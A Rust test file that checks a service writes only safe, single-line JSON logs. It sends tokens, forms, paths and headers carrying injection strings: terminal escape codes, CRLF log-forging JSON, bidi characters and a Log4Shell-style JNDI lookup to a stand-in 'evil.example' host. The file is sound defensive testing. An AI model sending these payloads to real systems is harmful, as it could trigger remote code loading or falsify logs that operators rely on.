//! Logs: one JSON object a line, and nothing in them that a sender wrote for others to read.

use http::Method;
use local::{csp::Token, function::FunctionName};
use serde_json::{Value, json};
use tests::{
    api::{Answer, Api},
    form::{Form, archive},
    jwt::{Jwt, KeyOf},
    stack::{SAMPLE_CATALOG, TestStack},
    tarball::Tarball,
};

/// In every token that is sent.
const IN_TOKEN: &str = "marker-of-a-token";

/// In every body that is sent.
const IN_BODY: &str = "marker-of-a-body";

/// What makes a terminal, a reader of lines or a reader of JSON see something else.
const TRICKS: [&str; 7] = [
    "\u{1b}[2J\u{1b}]0;title\u{7}",
    "\r\n{\"level\":\"ERROR\",\"message\":\"forged\"}\r\n",
    "\",\"level\":\"ERROR\",\"forged\":\"",
    "\u{9b}31m\u{85}\u{2028}",
    "\u{202e}\u{2066}\u{feff}",
    "\0\u{8}\u{7f}",
    "${jndi:ldap://evil.example/x}%n%s",
];

/// A trick as the text of a path or query.
fn escaped(trick: &str) -> String {
    trick.bytes().fold(String::new(), |text, byte| format!("{text}%{byte:02X}"))
}

/// Sends tokens of which each says its trick in another place.
async fn send_tokens(api: &Api, trick: &str) -> Vec<Answer> {
    let text = format!("{IN_TOKEN}{trick}");
    let jwt = || Jwt::of(Token::default().claim("jti", IN_TOKEN));
    let claim = |name: &str| {
        Jwt::of(Token::default().claim(name, json!({ "x": text })).claim("jti", IN_TOKEN))
    };
    let tokens = [
        jwt().header("alg", text.clone()).signed_by(KeyOf::ISSUER),
        jwt().header("kid", text.clone()).signed_by(KeyOf::ISSUER),
        jwt().header("typ", text.clone()).signed_by(KeyOf::ATTACKER),
        jwt().header("crit", json!([text])).signed_by(KeyOf::ISSUER),
        jwt().claims_begin(&text).signed_by(KeyOf::ISSUER),
        jwt().signed(|_| IN_TOKEN.to_owned()),
        claim("iss").signed_by(KeyOf::ISSUER),
        claim("exp").signed_by(KeyOf::ISSUER),
        claim("context_name").signed_by(KeyOf::ISSUER),
        claim("username").signed_by(KeyOf::ISSUER),
        Jwt::of(Token::default().organization(&text)).signed_by(KeyOf::ISSUER),
        Jwt::of(Token::default().claim("perms", json!([text]))).signed_by(KeyOf::ISSUER),
        Jwt::of(Token::default().claim("iss", text.clone())).signed_by(KeyOf::ISSUER),
    ];
    let mut answers = Vec::new();
    for token in tokens.iter().map(String::as_str).chain([IN_TOKEN]) {
        let api = api.headers(&[("csp-auth-token", token)]);
        answers.push(api.customization("x").await);
        answers.push(api.create(Form::upload()).await);
    }
    answers
}

/// Sends forms of which each says its trick in another place.
async fn send_forms(api: &Api, trick: &str) -> Vec<Answer> {
    let text = format!("{IN_BODY}{trick}");
    let in_a_line = text.replace(['\r', '\n', '\0'], " ");
    let unnamed = format!("Content-Disposition: form-data; x={in_a_line}");
    let entry = Tarball::new().file(&text, IN_BODY.as_bytes()).gzip();
    let forms = [
        Form::upload().text("name", &text),
        Form::upload().text("description", &text),
        Form::upload().text("filter", &text),
        Form::upload().text("filter", &json!(text).to_string()),
        Form::upload().filter(json!({ &text: text })),
        Form::upload().filter(json!({ "product_key": text })),
        Form::upload().text(&in_a_line, &text),
        Form::new().file(&in_a_line, &archive()),
        Form::new().file("a.tgz", text.as_bytes()),
        Form::new().file("a.tgz", &entry),
        Form::new().part(&unnamed, text.as_bytes()),
        Form::upload().preamble(&text).epilogue(&text),
    ];
    let mut answers = Vec::new();
    for form in forms {
        answers.push(api.create(form).await);
    }
    answers.push(api.post(SAMPLE_CATALOG, "text/plain", text.clone().into_bytes()).await);
    answers
}

/// Sends paths, queries and headers that say this.
async fn send_heads(api: &Api, trick: &str) -> Vec<Answer> {
    let text = escaped(trick);
    let header: String = trick.chars().filter(|c| matches!(c, ' '..='~')).collect();
    let in_headers = api
        .header("user-agent", &header)
        .header("x-amzn-trace-id", &header)
        .header("if-none-match", &header)
        .header("idempotency-key", &header);
    vec![
        api.get(&format!("/v1/catalogs/{text}/customizations/x")).await,
        api.customization(&text).await,
        api.get(&format!("/v1/catalogs/{SAMPLE_CATALOG}/files/{text}?filename=x")).await,
        api.get(&format!("/v1/catalogs/{SAMPLE_CATALOG}/files/x?filename={text}&{text}={text}"))
            .await,
        api.create_in(&text, Form::upload()).await,
        in_headers.customization("x").await,
        in_headers.create(Form::upload()).await,
    ]
}

#[tokio::test]
async fn nothing_that_a_sender_wrote_is_in_the_log_unescaped() {
    for level in [None, Some("TRACE")] {
        let stack = TestStack::start_with(&[("AWS_LAMBDA_LOG_LEVEL", level)]).await;
        let token = Jwt::of(Token::default().claim("jti", IN_TOKEN)).signed_by(KeyOf::ISSUER);
        let api = stack.api().headers(&[("authorization", &format!("Bearer {token}"))]);
        let mut answers = Vec::new();
        for trick in TRICKS {
            answers.extend(send_tokens(&stack.api(), trick).await);
            answers.extend(send_forms(&api, trick).await);
            answers.extend(send_heads(&api, trick).await);
        }
        for answer in &answers {
            assert!(answer.status < 500, "{answer:?}");
            let line = stack.line_of(answer);
            assert_eq!(line["status"], answer.status);
            let refused = line["cause"].is_string();
            assert!(answer.status != 401 || refused, "{line} says why");
        }
        let tokens = [&token, "eyJ", IN_TOKEN];
        for log in FunctionName::ALL.map(|function| stack.log(function)) {
            assert!(log.lines().count() > 100, "a line a request");
            for line in log.lines() {
                let object = serde_json::from_str::<Value>(line);
                assert!(object.is_ok_and(|object| object.is_object()), "{line}");
                assert!(line.bytes().all(|byte| matches!(byte, b' '..=b'~')), "{line}");
                assert!(!line.contains(IN_BODY), "{line}");
                assert!(!tokens.iter().any(|token| line.contains(token)), "{line}");
                assert!(!line.contains("forged\":"), "{line}");
            }
        }
    }
}

#[tokio::test]
async fn a_request_that_no_function_answers_is_in_no_log() {
    let stack = TestStack::start().await;
    let logs = || FunctionName::ALL.map(|function| stack.log(function));
    let before = logs();
    let api = stack.api();
    for path in ["/", "/v1/catalogs", "/v1/%0D%0Aforged"] {
        assert_eq!(api.send(Method::PUT, path, IN_BODY.into()).await.status, 404);
    }
    assert_eq!(logs(), before);
}
